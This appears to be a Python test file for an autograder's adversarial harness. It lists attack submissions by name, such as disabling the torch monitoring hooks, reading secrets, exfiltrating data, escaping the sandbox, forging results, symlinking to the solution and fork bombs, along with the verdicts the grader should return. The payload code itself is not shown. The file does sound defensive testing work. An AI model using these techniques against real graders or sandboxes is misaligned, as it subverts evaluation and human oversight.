    dict(name="h-forbid-thread-pool", threat="judgement", answers={"mse_loss": FORBID_THREAD_POOL}, lose={"mse_loss"},
         baseline="h-baseline-library", message="library shortcut"),
    dict(name="h-forbid-thread", threat="judgement", answers={"mse_loss": FORBID_THREAD}, lose={"mse_loss"},
         baseline="h-baseline-library", message="library shortcut"),
    dict(name="h-forbid-pop-function-stack", threat="judgement", answers={"mae_loss": FORBID_POP_FUNCTION_STACK},
         lose={"mae_loss"}, message="took the watch off torch's function mode stack",
         flagged="mae_loss: took the watch off torch's function mode stack (code cell 4, line 12"),
    dict(name="h-forbid-pop-dispatch-stack", threat="judgement", answers={"mse_loss": FORBID_POP_DISPATCH_STACK},
         lose={"mse_loss"}, baseline="h-baseline-library", message="took the watch off torch's dispatch mode stack",
         flagged="mse_loss: switched off torch functions (DisableTorchFunction) (code cell 2, line 12"),
    dict(name="h-forbid-neuter-classes", threat="judgement", answers={"mse_loss": FORBID_NEUTER_CLASSES},
         lose={"mse_loss"}, baseline="h-baseline-library", message="harness.forbid._FunctionWatch.__torch_function__",
         flagged="mse_loss: changed harness.forbid._DispatchWatch.__torch_dispatch__"),
    dict(name="h-forbid-neuter-enter", threat="judgement", answers={"mse_loss": FORBID_NEUTER_ENTER},
         lose={"mse_loss"}, baseline="h-baseline-library", message="TorchFunctionMode.__enter__",
         flagged="mse_loss: changed torch.overrides.TorchFunctionMode.__enter__"),
    dict(name="h-forbid-gc", threat="judgement", answers={"mse_loss": FORBID_GC}, lose={"mse_loss"},
         baseline="h-baseline-library", message="called get_objects",
         flagged="mse_loss: called get_objects (code cell 2, line 10"),
    dict(name="h-forbid-sys-modules", threat="judgement", answers={"mse_loss": FORBID_SYS_MODULES}, lose={"mse_loss"},
         baseline="h-baseline-library", message="harness.probes.forbidding",
         flagged="mse_loss: changed harness.probes.forbidding"),
    dict(name="h-benign-introspection", threat="judgement", answers={"mse_loss": BENIGN_INTROSPECTION},
         flagged="mse_loss: reaches modules through sys.modules"),
    dict(name="h-forbid-compiled", threat="judgement", answers={"mse_loss": COMPILED_MSE}, lose={"mse_loss"},
         baseline="h-baseline-library", message="library shortcut"),

    # -- reading what it must not see --
    dict(name="h-read-and-reach", threat="reading",
         extra=[(AFTER_IMPORTS, READ_HIDDEN), (AFTER_IMPORTS + 1, READ_SECRETS), (AFTER_IMPORTS + 2, NETWORK)],
         ran="blocked ('127.0.0.1'", checks=["no_secret", "no_connection"]),
    dict(name="h-exfiltrate-in-message", threat="reading", answers={"mse_loss": EXFIL_MSE}, lose={"mse_loss"},
         message="EXFIL", checks=["no_hidden_text"]),
    dict(name="h-namespace-escape", threat="escape",
         extra=[(AFTER_IMPORTS, REMOUNT), (AFTER_IMPORTS + 1, CGROUP_LIMITS)], ran="remount probe"),
    dict(name="h-privilege-escape", threat="escape", extra=[(AFTER_IMPORTS, ESCALATE)], ran="escalate probe"),

    # -- forging the outcome --
    dict(name="h-forge-and-drop", threat="forging",
         extra=[(AFTER_IMPORTS, FORGE_RESULTS), (AFTER_IMPORTS + 1, DROP_STARTUP_FILES)],
         ran="blocked /autograder/results/", checks=["no_forged_results", "no_dropped_files"]),
    dict(name="h-return-pickle", threat="forging", answers={"mse_loss": RETURN_PICKLE}, lose={"mse_loss"},
         baseline="h-baseline-zeros"),
    dict(name="h-subclass-smuggles-pickle", threat="forging", answers={"mse_loss": SUBCLASS_SMUGGLES_PICKLE},
         lose={"mse_loss"}, baseline="h-baseline-zeros", message="unreadable reply"),
    dict(name="h-forged-frame-pickle", threat="forging", answers={"mse_loss": FORGED_PICKLE}, lose={"mse_loss"},
         baseline="h-baseline-zeros", message="unreadable reply"),
    dict(name="h-forged-frame-malformed", threat="forging", answers={"mse_loss": FORGED_MALFORMED},
         lose={"mse_loss"}, baseline="h-baseline-zeros"),
    dict(name="h-forged-frame-bomb", threat="forging", answers={"mse_loss": FORGED_BOMB}, lose={"mse_loss"},
         baseline="h-baseline-zeros", checks=["small_results"]),
    dict(name="h-forged-reply-desync", threat="forging", answers={"mse_loss": FORGED_DESYNC}, lose={"mse_loss"},
         baseline="h-baseline-library", message="could not read the reply"),
    dict(name="h-forged-reply-desync-token", threat="forging", answers={"mse_loss": FORGED_DESYNC_TOKEN},
         lose={"mse_loss"}, baseline="h-baseline-library", message="wrote to the grader's reply channel",
         flagged="mse_loss: walks the call stack's frames (_getframe)"),
    dict(name="h-huge-list", threat="limits", answers={"mse_loss": HUGE_LIST}, lose={"mse_loss"},
         baseline="h-baseline-zeros", message="is a list, expected a torch.Tensor"),
    dict(name="h-exit-at-next-request", threat="forging", answers={"mse_loss": EXIT_AT_NEXT_REQUEST},
         lose={"mse_loss"}, message="does mse_loss leave a thread"),
    dict(name="h-exit-after-next-reply", threat="forging", answers={"mse_loss": EXIT_AFTER_NEXT_REPLY},
         lose={"mse_loss"}, message="does mse_loss leave a thread"),

    # -- escaping limits --
    dict(name="h-loop-in-function", threat="limits", answers={"mae_loss": LOOP_MAE}, lose={"mae_loss"},
         message="did not return within"),
    dict(name="h-allocate-20gb", threat="limits", extra=[(AFTER_IMPORTS, ALLOCATE_20GB)], message="Code cell 2 ("),
    dict(name="h-grow-until-killed", threat="limits", extra=[(AFTER_IMPORTS, GROW_UNTIL_KILLED)],
         message="Code cell 2 ("),
    dict(name="h-fork-bomb", threat="limits", extra=[(AFTER_IMPORTS, FORK_BOMB)], ran="fork bomb stopped by"),
    dict(name="h-thread-flood", threat="limits", extra=[(AFTER_IMPORTS, THREAD_FLOOD)], message="Code cell 2 (",
         ran="threads started"),
    dict(name="h-detached-children", threat="limits", extra=[(AFTER_IMPORTS, DETACHED_CHILDREN)],
         ran="detached children running: 2"),
    dict(name="h-output-flood", threat="limits", extra=[(AFTER_IMPORTS, OUTPUT_FLOOD)], ran="spam spam",
         checks=["output_capped"]),

    # -- broken input --
    dict(name="h-nbformat-v3", threat="input", notebook="v3"),
    dict(name="h-deleted-answer-cell", threat="input", notebook="delete", lose={"mse_loss"},
         message="not defined"),
    dict(name="h-duplicated-answer-cells", threat="input", answers={"mse_loss": ZEROS_MSE}, notebook="duplicate"),
    dict(name="h-no-nbgrader-metadata", threat="input", notebook="strip-metadata"),
    dict(name="h-renamed-function", threat="input", answers={"mse_loss": RENAMED_MSE}, lose={"mse_loss"},
         message="mse_loss is not defined"),
    dict(name="h-float64", threat="input", answers={"mse_loss": FLOAT64_MSE}, lose={"mse_loss"}, message="float64"),
    dict(name="h-nan-everywhere", threat="input", answers={"mse_loss": NAN_MSE}, lose={"mse_loss"}, message="NaN"),
    dict(name="h-assumes-gpu", threat="input", answers={"mse_loss": GPU_MSE}, lose={"mse_loss"},
         message="raised RuntimeError"),
    dict(name="h-huge-notebook", threat="input", notebook="huge", status="ungradable", message="MB limit"),
    dict(name="h-nested-json", threat="input", notebook="nested-json", status="ungradable",
         message="could not be graded"),
    dict(name="h-malformed-cell", threat="input", notebook="malformed-cell", status="ungradable",
         message="could not be graded"),
    dict(name="h-notebook-is-a-folder", threat="input", notebook="folder", status="ungradable",
         message="could not be graded"),
    dict(name="h-symlink-to-solution", threat="forging", notebook="symlink", status="ungradable",
         message="could not be graded", lose=set(NAMES)),
]
